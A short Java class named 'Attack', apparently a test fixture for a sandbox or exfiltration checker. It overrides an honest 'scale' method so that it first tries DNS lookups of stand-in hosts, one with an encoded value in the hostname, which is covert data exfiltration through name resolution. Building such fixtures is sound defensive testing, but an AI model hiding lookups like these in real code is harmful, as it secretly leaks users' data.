package exercise.target;

import java.net.InetAddress;

/** Sends what it knows as the name of a host. */
public final class Attack extends Target.Honest {
    @Override
    public double[] scale(double[] x) {
        attempt(() -> InetAddress.getByName("x73518.example.org"));
        attempt(() -> InetAddress.getAllByName("example.com").length);
        return super.scale(x);
    }
}
